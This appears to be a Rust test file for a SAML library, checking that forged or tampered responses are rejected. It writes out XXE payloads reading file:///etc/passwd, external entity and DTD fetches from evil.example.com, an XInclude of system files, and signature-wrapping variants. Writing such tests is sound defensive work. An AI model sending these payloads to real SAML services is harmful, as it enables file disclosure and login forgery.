//! What an attacker does to text, signatures, keys and the parser: T9 to T11, T13, T18 to T20, T22.

use saml::SignatureError;
use saml::algorithm::{DigestAlgorithm, SignatureAlgorithm};
use saml::inbound::{DecodeError, XmlError};
use saml::response::build;
use saml::sp::Rejected;

use crate::support::{
    accept, accept_as, assertion_of, built, control, cut, expectation, idp_key, impostor_key, signature_of,
    signed_twice, spec, swap,
};

fn xml_error(xml: &str) -> XmlError {
    match accept(xml) {
        Err(Rejected::Decode(DecodeError::Xml(error))) => error,
        other => panic!("{other:?} for {xml}"),
    }
}

fn signature_error(xml: &str) -> SignatureError {
    match accept(xml) {
        Err(Rejected::Signature(error)) => error,
        other => panic!("{other:?} for {xml}"),
    }
}

#[test]
pub fn t9_text_cannot_be_split() {
    let xml = built(&spec());
    control(&xml);
    for (text, part) in [
        ("alice@example.com", "alice@example.com"),
        ("+4917012345678", "+49170"),
        ("https://idp.example.com/identity", "https://idp"),
        ("travelocity.com", "travelocity"),
        ("_session-1", "_session"),
    ] {
        for (splitter, name) in [
            ("<!---->", "comment"),
            ("<!-- x -->", "comment"),
            ("<?x?>", "processing instruction"),
            ("<![CDATA[]]>", "CDATA section"),
        ] {
            let attack = swap(&xml, text, &text.replacen(part, &format!("{part}{splitter}"), 1));
            // In an attribute value markup is no markup but an error of its own.
            if text == "_session-1" {
                assert!(accept(&attack).is_err());
            } else {
                assert_eq!(xml_error(&attack), XmlError::SplitText(name));
            }
        }
        if text != "_session-1" {
            let entity = swap(&xml, text, &format!("{part}&x;"));
            assert!(matches!(xml_error(&entity), XmlError::NotWellFormed(_)));
        }
    }
    let element = swap(&xml, "alice@example.com", "alice<saml:x/>@example.com");
    assert_eq!(xml_error(&element), XmlError::MarkupInText("NameID".to_owned()));
}

/// Characters that XML escapes come back whole, whatever node structure the parser makes of them.
#[test]
pub fn t9_escaped_text_is_read_whole() {
    let mut spec = spec();
    spec.name_id.value = "a&b<c>d\"e'f ]]> \u{1F600}.example.com".to_owned();
    let accepted = accept(&built(&spec)).unwrap();
    assert_eq!(accepted.name_id.value, spec.name_id.value);
    assert_eq!(accepted.attributes, spec.attributes);
    let numeric = built(&crate::support::spec()).replace("alice@", "&#97;lice&#64;");
    assert_eq!(
        accept(&numeric).unwrap().name_id.value,
        "alice@example.com",
        "character references are the same text to signature and reader"
    );
}

#[test]
pub fn t10_missing_and_emptied_signatures() {
    let xml = built(&spec());
    control(&xml);
    assert_eq!(
        signature_error(&xml.replace(signature_of(&xml), "")),
        SignatureError::NotSigned
    );
    let value = cut(&xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
    for (from, to) in [
        (value, "<ds:SignatureValue/>"),
        (value, "<ds:SignatureValue>AAAA</ds:SignatureValue>"),
    ] {
        assert_eq!(signature_error(&swap(&xml, from, to)), SignatureError::Invalid);
    }
    let digest = cut(&xml, "<ds:DigestValue>", "</ds:DigestValue>");
    assert_eq!(
        signature_error(&swap(&xml, digest, "<ds:DigestValue/>")),
        SignatureError::Invalid
    );
    let reference = cut(&xml, "<ds:Reference", "</ds:Reference>");
    assert!(matches!(
        signature_error(&swap(&xml, reference, "")),
        SignatureError::Form(_)
    ));
    assert!(matches!(
        signature_error(&swap(
            &xml,
            signature_of(&xml),
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>"
        )),
        SignatureError::Form(_)
    ));
}

#[test]
pub fn t10_algorithms_that_prove_nothing() {
    let xml = built(&spec());
    control(&xml);
    let method = idp_key().signature_algorithm().uri();
    for weak in [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "none",
        "",
    ] {
        assert_eq!(
            signature_error(&swap(&xml, method, weak)),
            SignatureError::Algorithm(weak.to_owned())
        );
    }
    let sha1 = "http://www.w3.org/2000/09/xmldsig#sha1";
    assert_eq!(
        signature_error(&swap(&xml, DigestAlgorithm::Sha256.uri(), sha1)),
        SignatureError::Digest(sha1.to_owned())
    );
}

#[test]
pub fn t10_every_accepted_algorithm_round_trips() {
    for signature_algorithm in SignatureAlgorithm::ALL {
        if signature_algorithm.kind() != idp_key().kind() {
            continue;
        }
        for digest_algorithm in DigestAlgorithm::ALL {
            let key = idp_key().using(signature_algorithm, digest_algorithm);
            let xml = build(&signed_twice(), &key).unwrap();
            assert!(xml.contains(signature_algorithm.uri()));
            assert!(xml.contains(digest_algorithm.uri()));
            control(&xml);
        }
    }
}

#[test]
pub fn t10_signature_over_the_wrong_element() {
    let xml = built(&signed_twice());
    control(&xml);
    for (from, to) in [
        ("URI=\"#_response-1\"", "URI=\"#_assertion-1\""),
        ("URI=\"#_response-1\"", "URI=\"\""),
        ("URI=\"#_response-1\"", "URI=\"#\""),
        ("URI=\"#_response-1\"", "URI=\"#xpointer(/)\""),
        ("URI=\"#_response-1\"", "URI=\"cid:_response-1\""),
        ("URI=\"#_response-1\"", "URI=\"https://evil.example.com/\""),
        ("URI=\"#_response-1\"", "URI=\"file:///etc/passwd\""),
        (" URI=\"#_response-1\"", ""),
    ] {
        assert_eq!(signature_error(&swap(&xml, from, to)), SignatureError::Coverage);
    }
}

#[test]
pub fn t11_entities_inclusion_and_transforms() {
    let xml = built(&spec());
    control(&xml);
    for doctype in [
        "<!DOCTYPE x SYSTEM \"https://evil.example.com/x.dtd\">",
        "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example.com/\"> %p;]>",
        "<!DOCTYPE samlp:Response>",
        "<?xml version=\"1.0\"?><!DOCTYPE x []>",
    ] {
        assert_eq!(xml_error(&format!("{doctype}{xml}")), XmlError::Doctype);
    }
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    assert_eq!(
        xml_error(&swap(&xml, "<samlp:Status>", &format!("{include}<samlp:Status>"))),
        XmlError::XInclude
    );
    let enveloped = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
    for transform in [
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "http://www.w3.org/2002/06/xmldsig-filter2",
        "http://www.w3.org/2000/09/xmldsig#base64",
    ] {
        assert_eq!(
            signature_error(&swap(&xml, enveloped, transform)),
            SignatureError::Transform(transform.to_owned())
        );
    }
    let more = format!("<ds:Transform Algorithm=\"{enveloped}\"/></ds:Transforms>");
    assert!(matches!(
        signature_error(&swap(&xml, "</ds:Transforms>", &more)),
        SignatureError::Form(_)
    ));
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    let exclusive = "http://www.w3.org/2001/10/xml-exc-c14n#";
    assert_eq!(
        signature_error(&xml.replace(exclusive, inclusive)),
        SignatureError::Transform(inclusive.to_owned())
    );
}

#[test]
pub fn t11_retrieval_methods_are_not_followed() {
    let xml = built(&spec());
    control(&xml);
    let data = cut(&xml, "<ds:X509Data>", "</ds:X509Data>");
    for key_info in [
        "<ds:RetrievalMethod URI=\"https://evil.example.com/key\"/>",
        "<ds:KeyName>victim</ds:KeyName>",
        "<x:anything xmlns:x=\"urn:x\"/>",
    ] {
        assert!(
            accept(&swap(&xml, data, key_info)).is_ok(),
            "what stands in KeyInfo makes no difference"
        );
    }
}

#[test]
pub fn t13_a_key_in_the_message_is_not_trusted() {
    let genuine = built(&signed_twice());
    control(&genuine);
    let impostor = build(&signed_twice(), impostor_key()).unwrap();
    assert_eq!(impostor_key().certificate().subject, idp_key().certificate().subject);
    assert_eq!(signature_error(&impostor), SignatureError::Invalid);
    // The genuine certificate pasted over the impostor's key, and the reverse.
    let mine = idp_key().certificate_der_base64();
    let theirs = impostor_key().certificate_der_base64();
    assert_eq!(
        signature_error(&impostor.replace(&theirs, &mine)),
        SignatureError::Invalid
    );
    let genuine = built(&spec());
    assert!(accept(&swap(&genuine, &mine, &theirs)).is_ok());
}

#[test]
pub fn t13_any_registered_certificate_will_do_and_none_will_not() {
    let xml = built(&signed_twice());
    let certificates = [impostor_key().certificate().clone(), idp_key().certificate().clone()];
    let mut several = expectation();
    several.idp_certificates = &certificates;
    assert!(accept_as(&xml, &several).is_ok());
    several.idp_certificates = &certificates[..1];
    assert_eq!(
        accept_as(&xml, &several),
        Err(Rejected::Signature(SignatureError::Invalid))
    );
    several.idp_certificates = &[];
    assert_eq!(
        accept_as(&xml, &several),
        Err(Rejected::Signature(SignatureError::NoCertificate))
    );
}

/// One byte anywhere in the signed part breaks the signature; so does one in the signature itself.
#[test]
pub fn every_change_to_signed_text_is_noticed() {
    let xml = built(&signed_twice());
    control(&xml);
    for (from, to) in [
        ("alice@", "blice@"),
        ("+4917012345678", "+4917012345679"),
        ("_session-1", "_session-2"),
        ("PasswordProtectedTransport", "Kerberos"),
        ("travelocity.com", "travelocity.org"),
        ("<saml:AttributeStatement>", "<saml:AttributeStatement >"),
    ] {
        let changed = swap(&xml, from, to);
        if from.starts_with('<') {
            assert!(accept(&changed).is_ok(), "canonical form is unchanged");
        } else {
            assert_eq!(signature_error(&changed), SignatureError::Invalid);
        }
    }
}

/// T18: what another parser might read differently is refused, not interpreted.
#[test]
pub fn t18_ambiguous_documents() {
    let xml = built(&spec());
    control(&xml);
    let doubled = swap(&xml, "Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\"");
    assert!(matches!(xml_error(&doubled), XmlError::NotWellFormed(_)));
    let same_id = swap(
        &xml,
        "<samlp:Status>",
        "<samlp:Extensions><x ID=\"_assertion-1\"/></samlp:Extensions><samlp:Status>",
    );
    assert_eq!(xml_error(&same_id), XmlError::DuplicateId("_assertion-1".to_owned()));
    let trailing = format!("{xml}{xml}");
    assert!(matches!(xml_error(&trailing), XmlError::NotWellFormed(_)));
    let undeclared = xml.replace(" xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"", "");
    assert!(matches!(xml_error(&undeclared), XmlError::NotWellFormed(_)));
}

/// T19: the digest comes from the reference in SignedInfo and from nowhere else.
#[test]
pub fn t19_no_second_digest_value() {
    let xml = built(&spec());
    control(&xml);
    let digest = cut(&xml, "<ds:DigestValue>", "</ds:DigestValue>");
    let wrapped = format!(
        "<samlp:Extensions xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{digest}</samlp:Extensions><samlp:Status>"
    );
    let harmless = swap(&xml, "<samlp:Status>", &wrapped);
    assert!(accept(&harmless).is_ok());
    let forged = swap(&harmless, "alice@", "mallory@");
    assert_eq!(signature_error(&forged), SignatureError::Invalid);
    let doubled = swap(&xml, digest, &format!("{digest}{digest}"));
    assert!(matches!(signature_error(&doubled), SignatureError::Form(_)));
}

/// T20: one SignedInfo, and no comment in the digest.
#[test]
pub fn t20_several_signed_infos_and_comments_in_digests() {
    let xml = built(&spec());
    control(&xml);
    let info = cut(&xml, "<ds:SignedInfo>", "</ds:SignedInfo>");
    let doubled = swap(&xml, info, &format!("{info}{info}"));
    assert!(matches!(signature_error(&doubled), SignatureError::Form(_)));
    let commented = swap(&xml, "<ds:DigestValue>", "<ds:DigestValue><!--x-->");
    assert_eq!(xml_error(&commented), XmlError::SplitText("comment"));
    let reference = cut(&xml, "<ds:Reference", "</ds:Reference>");
    let two = swap(&xml, reference, &format!("{reference}{reference}"));
    assert!(matches!(signature_error(&two), SignatureError::Form(_)));
    let moved = swap(&xml, info, "");
    let moved = swap(&moved, "<ds:KeyInfo>", &format!("<ds:KeyInfo>{info}"));
    assert!(matches!(signature_error(&moved), SignatureError::Form(_)));
}

/// T22: namespaces and attributes that libraries read in different ways.
#[test]
pub fn t22_relative_namespaces_and_attribute_pollution() {
    let xml = built(&spec());
    control(&xml);
    for namespace in ["relative", "../x", "1:2", "", "/path"] {
        let attack = swap(
            &xml,
            "<saml:Assertion ",
            &format!("<saml:Assertion xmlns:r=\"{namespace}\" "),
        );
        let error = xml_error(&attack);
        assert!(
            matches!(error, XmlError::RelativeNamespace | XmlError::NotWellFormed(_)),
            "{error}"
        );
    }
    for attribute in [
        "samlp:ID=\"_x\"",
        "saml:Destination=\"x\"",
        "xml:id=\"_response-1\"",
        "saml:Version=\"1.1\"",
    ] {
        let attack = swap(&xml, " ID=", &format!(" {attribute} ID="));
        assert!(
            matches!(xml_error(&attack), XmlError::AmbiguousAttribute(_)),
            "{attribute}"
        );
    }
    // An element of SAML's name in another namespace is not SAML's.
    let confused = assertion_of(&xml)
        .replace(
            "urn:oasis:names:tc:SAML:2.0:assertion\"",
            "urn:oasis:names:tc:SAML:2.0:assertion2\"",
        )
        .replace("alice@", "mallory@");
    let xml = swap(&xml, assertion_of(&xml), &confused);
    assert_eq!(signature_error(&xml), SignatureError::Placement);
}
